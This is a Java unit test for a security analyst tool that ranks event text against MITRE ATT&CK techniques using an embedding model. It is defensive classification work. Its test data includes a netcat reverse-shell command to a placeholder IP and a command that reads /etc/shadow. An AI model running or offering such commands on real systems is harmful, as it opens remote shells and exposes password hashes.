package io.winnow.analyst.builtin.similarity;

import io.winnow.analyst.builtin.SimilarityRanker;
import io.winnow.analyst.builtin.SimilarityRanker.Ranked;
import io.winnow.attack.AttackCatalog;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

/**
 * The blended ranker with the real in-process MiniLM model. The model loads once for the class (about a second,
 * plus about two for the technique vectors); every test is skipped when the native library cannot load here.
 */
class EmbeddingRankerTest {
    @TempDir
    static Path cache;

    private static AttackCatalog catalog;
    private static SimilarityRanker ranker;

    @BeforeAll
    static void loadTheModel() {
        catalog = AttackCatalog.bundled();
        ranker = SimilarityRankers.create(catalog, SimilarityMode.AUTO, cache);
        ranker.rank("warm up", 1);
    }

    private static void assumeModelLoaded() {
        assumeThat(ranker.name()).as("MiniLM loads on this platform").isEqualTo("minilm+lexical");
    }

    @ParameterizedTest(name = "{0} → {1}")
    @CsvSource(delimiter = '|', textBlock = """
            cat /etc/shadow                                                  | T1003.008
            crontab -e                                                       | T1053.003
            nc -e /bin/sh 10.0.0.1 4444                                      | T1059
            Failed password for invalid user oracle from [EXTERNAL-IP-1] port 50022 ssh2 | T1110
            Outbound connection to a known cryptocurrency mining pool        | T1496
            Someone downloaded a file with wget into /tmp and made it executable | T1105
            """)
    void ranksTheExpectedTechniqueInTheTopThree(String text, String expected) {
        assumeModelLoaded();

        // when
        List<Ranked> ranked = ranker.rank(text, 3);

        // then
        assertThat(ranked).as(text).extracting(Ranked::techniqueId)
                .anySatisfy(id -> assertThat(id.equals(expected) || id.startsWith(expected + ".")).isTrue());
        assertThat(ranked).allSatisfy(r -> assertThat(r.score()).isBetween(0.0, 1.0));
    }

    @Test
    void givesTheSameRankingEveryTimeAndAcrossInstancesSharingTheVectorCache() throws Exception {
        assumeModelLoaded();
        // given
        String text = "A shell was spawned in a container with an attached terminal (user=root shell=bash)";
        List<Ranked> first = ranker.rank(text, 5);

        // when
        SimilarityRanker second = SimilarityRankers.create(catalog, SimilarityMode.EMBEDDING, cache);

        // then
        assertThat(first).isNotEmpty().isEqualTo(ranker.rank(text, 5)).isEqualTo(second.rank(text, 5));
        assertThat(second.name()).isEqualTo("minilm+lexical");
        try (var files = Files.list(cache)) {
            assertThat(files.filter(f -> f.getFileName().toString().startsWith("technique-vectors-"))).hasSize(1);
        }
    }
}
